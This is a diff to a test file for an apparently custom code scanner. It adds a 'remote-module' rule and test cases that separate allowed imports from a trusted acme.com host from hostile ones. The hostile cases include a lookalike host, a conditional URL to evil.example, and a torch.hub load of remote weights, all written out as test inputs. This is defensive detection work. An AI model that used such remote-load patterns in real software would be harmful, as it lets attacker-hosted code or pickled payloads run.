@@ -22,7 +22,13 @@ const ALLOW: Allowances = {
 function cases(language: Language, opening: string, lines: readonly (readonly [string, readonly string[]])[]): void {
   for (const [line, rules] of lines) {
     const text = `${opening}${line}\n`;
-    const wanted = new Set(['remote-exec', 'download-and-run', 'runtime-install', 'unsafe-deserialization']);
+    const wanted = new Set([
+      'remote-module',
+      'remote-exec',
+      'download-and-run',
+      'runtime-install',
+      'unsafe-deserialization',
+    ]);
     const told = (allow: Allowances) =>
       find(language, text, { allow }).flatMap(({ rule }) => (wanted.has(rule) ? [rule] : []));
     assert.notDeepEqual(told({}), [], line);
@@ -71,6 +77,24 @@ describe('what is allowed', () => {
     cases('javascript', "const { execSync } = require('child_process');\n", [
       ["execSync('npm install @acme/server');", []],
       ["execSync('npm install left-pad');", ['runtime-install']],
+    ]);
+  });
+
+  it('may be a module from an address', () => {
+    cases('javascript', '', [
+      ["import('https://models.acme.com/x.js');", []],
+      ["import a from 'https://a.cdn.acme.com/x.js';", []],
+      ["importScripts('https://models.acme.com/x.js', '//models.acme.com/y.js');", []],
+      ['document.body.innerHTML = \'<script src="//models.acme.com/x.js"></script>\';', []],
+      ["function f(name) { return import('https://models.acme.com/' + name); }", []],
+      ["function f(rest) { return import('https://models.acme.com' + rest); }", ['remote-module']],
+      ["import('https://models.acme.com.evil.example/x.js');", ['remote-module']],
+      ["const a = b ? 'https://models.acme.com/x.js' : 'https://evil.example/x.js';\nimport(a);", ['remote-module']],
+    ]);
+    cases('python', 'import torch\n', [
+      ['torch.hub.load_state_dict_from_url("https://models.acme.com/x.pth")', []],
+      ['torch.hub.load_state_dict_from_url("https://evil.example/x.pth")', ['unsafe-deserialization']],
+      ['def f(name):\n    torch.hub.load_state_dict_from_url(name)', ['unsafe-deserialization']],
     ]);
   });
 
